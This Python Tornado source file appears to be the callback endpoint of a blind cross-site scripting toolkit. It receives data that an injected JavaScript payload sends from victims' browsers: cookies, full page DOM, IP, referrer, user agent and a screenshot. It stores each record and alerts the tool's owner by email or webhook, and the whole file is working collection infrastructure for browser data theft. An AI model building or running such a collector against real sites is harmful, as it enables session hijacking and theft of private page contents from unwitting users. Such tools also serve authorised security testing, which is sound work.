"""Probe callback: the JS payload reports here from the victim's browser."""
import base64
import hashlib
import json
import os

from tornado.options import options

from handlers.base import BaseHandler
from libs import notify
from models import DBSession
from models.injection_record import Injection
from models.user import User

SCREENSHOTS_DIR = os.path.join(options.data_dir, "uploads")


class CallbackHandler(BaseHandler):
    def set_default_headers(self):
        super().set_default_headers()
        self.set_header("Access-Control-Allow-Origin", "*")
        self.set_header("Access-Control-Allow-Methods", "POST, OPTIONS")

    def options(self):
        self.set_status(204)

    def _save_screenshot(self, data_uri):
        if not data_uri or not data_uri.startswith("data:image/png;base64,"):
            return None
        raw = base64.b64decode(data_uri.split(",", 1)[1])
        name = hashlib.sha256(raw).hexdigest() + ".png"
        with open(os.path.join(SCREENSHOTS_DIR, name), "wb") as fh:
            fh.write(raw)
        return name

    def post(self):
        data = json.loads(self.request.body)
        owner = DBSession().query(User).filter_by(domain=self.request.host.split(".")[0]).first()
        if owner is None:
            return self.error("unknown probe", 404)
        record = Injection(
            owner_id=owner.id,
            vulnerable_page=data.get("uri"),
            victim_ip=self.client_ip(),
            referer=data.get("referrer"),
            user_agent=self.request.headers.get("User-Agent"),
            cookies=data.get("cookies"),
            dom=data.get("dom"),
            origin=data.get("origin"),
            screenshot=self._save_screenshot(data.get("screenshot")),
        )
        session = DBSession()
        session.add(record)
        session.commit()
        if owner.email_enabled:
            notify.send_email(owner, record)
        if owner.webhook_url:
            notify.send_webhook(owner, record)
        self.write_json({"success": True})
